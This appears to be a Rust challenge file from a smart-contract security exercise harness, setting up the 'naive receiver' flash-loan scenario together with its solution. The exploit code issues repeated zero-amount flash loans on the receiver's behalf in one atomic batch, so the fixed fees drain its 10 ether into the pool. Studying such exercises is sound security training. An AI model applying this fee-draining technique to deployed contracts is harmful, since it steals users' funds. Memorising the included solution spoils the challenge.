//! Anyone may start a flash loan on behalf of the receiver, and every loan
//! costs the receiver a fixed fee.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::naive_receiver::{fixed_fee, NaiveReceiver, NaiveReceiverPool};
use gauntlet_common::subsystems::native_marker;
use gauntlet_common::{Amount, Arg, CallData};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, AssetRef, Assertion, CallSpec, Scenario, ScenarioError,
};

pub const NAME: &str = "naive-receiver";

pub fn ether_in_pool() -> Amount {
    ether(1_000)
}

pub fn ether_in_receiver() -> Amount {
    ether(10)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let pool = AccountRef::subsystem("pool");
    let receiver = AccountRef::subsystem("receiver");

    Scenario::builder(NAME)
        .description("Fee-charging flash loans can be forced on an unsuspecting receiver")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .actor(ActorDef::observer("user", Amount::zero()))
        .deploy("pool", "deployer", Arc::new(NaiveReceiverPool), vec![])
        .fund(pool.clone(), AssetRef::Native, ether_in_pool())
        .deploy("receiver", "user", Arc::new(NaiveReceiver), vec![pool.clone().into()])
        .fund(receiver.clone(), AssetRef::Native, ether_in_receiver())
        .precondition(Assertion::balance_eq(pool.clone(), AssetRef::Native, ether_in_pool()))
        .precondition(Assertion::balance_eq(
            receiver.clone(),
            AssetRef::Native,
            ether_in_receiver(),
        ))
        .precondition(Assertion::returns(
            "user",
            pool.clone(),
            CallSpec::new("fixed_fee"),
            fixed_fee(),
        ))
        .postcondition(Assertion::balance_eq(receiver, AssetRef::Native, Amount::zero()))
        .postcondition(Assertion::balance_eq(
            pool,
            AssetRef::Native,
            ether_in_pool() + ether_in_receiver(),
        ))
        .build()
}

/// Ten empty loans for the receiver, grouped so they land together.
pub struct NaiveReceiverExploit;

impl Exploit for NaiveReceiverExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let pool = view.subsystem("pool")?;
        let receiver = view.subsystem("receiver")?;
        let rounds = ether_in_receiver() / fixed_fee();

        let loan = CallData::new("flash_loan")
            .arg(receiver)
            .arg(native_marker())
            .arg(Amount::zero())
            .arg(Arg::Bytes(Vec::new()));
        let loans = (0..rounds.low_u64())
            .map(|_| Step::call("player", pool, loan.clone()))
            .collect();
        Ok(vec![Step::Atomic(loans)])
    }

    fn describe(&self) -> String {
        "drain the receiver through fees".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(NaiveReceiverExploit)
}
